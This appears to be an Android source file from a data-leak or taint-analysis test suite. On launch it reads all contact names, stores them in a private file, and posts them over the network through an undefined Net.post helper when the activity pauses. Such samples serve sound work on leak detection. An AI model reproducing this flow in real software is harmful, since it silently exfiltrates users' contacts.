package com.example.flows.file_private;

import android.accounts.*;
import android.app.*;
import android.content.*;
import android.content.pm.*;
import android.database.*;
import android.database.sqlite.*;
import android.location.*;
import android.net.*;
import android.net.wifi.*;
import android.os.*;
import android.provider.*;
import android.telephony.*;
import android.text.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import org.json.*;

/** Names rest in a private file until they are posted. */
public class MainActivity extends Activity {
    @Override
    public void onCreate(Bundle state) {
        super.onCreate(state);
        try {
            FileOutputStream out = openFileOutput("names.txt", 0);
            out.write(contacts().getBytes());
            out.close();
        } catch (IOException e) {
            finish();
        }
    }

    @Override
    protected void onPause() {
        super.onPause();
        try {
            BufferedReader in = new BufferedReader(new InputStreamReader(openFileInput("names.txt")));
            Net.post(in.readLine());
        } catch (IOException e) {
            finish();
        }
    }

    String contacts() {
        StringBuilder names = new StringBuilder();
        Cursor cursor = getContentResolver().query(ContactsContract.Contacts.CONTENT_URI, null, null, null, null);
        while (cursor.moveToNext()) {
            names.append(cursor.getString(cursor.getColumnIndex("display_name"))).append(';');
        }
        cursor.close();
        return names.toString();
    }
}
